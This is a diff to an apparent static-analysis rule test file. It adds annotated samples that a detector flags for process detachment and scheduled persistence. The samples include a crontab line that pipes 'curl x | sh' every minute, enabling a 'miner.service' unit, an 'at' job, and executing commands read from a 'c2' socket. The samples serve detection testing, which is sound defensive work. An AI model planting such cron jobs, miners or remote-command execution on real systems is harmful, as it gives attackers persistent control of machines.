@@ -181,3 +181,23 @@ subprocess.run(*[wrapped])
 parts = c2.recv(64).decode().split()
 # ruleid: network-command, subprocess-call
 subprocess.call(*[parts])
+
+# process-detach: a new session or process group
+# ruleid: process-detach
+os.setsid()
+# ruleid: process-detach
+os.setpgrp()
+
+# scheduler-command: work planted for later
+# ruleid: scheduler-command, subprocess-call, process-partial-path, process-partial-path-list
+subprocess.run(["crontab", "-"], input=b"* * * * * curl x | sh")
+# ruleid: scheduler-command, subprocess-call
+subprocess.run(["/usr/bin/systemctl", "--user", "enable", "miner.service"])
+# ruleid: scheduler-command, os-exec
+os.execv("/usr/bin/at", ["at", "now", "+", "1", "minute"])
+# ok: scheduler-command
+# ruleid: subprocess-call
+subprocess.run(["/usr/bin/systemctl", "status", "nginx"])
+# ok: scheduler-command
+# ruleid: subprocess-call, process-partial-path, process-partial-path-list
+subprocess.run(["cat", "notes.txt"])
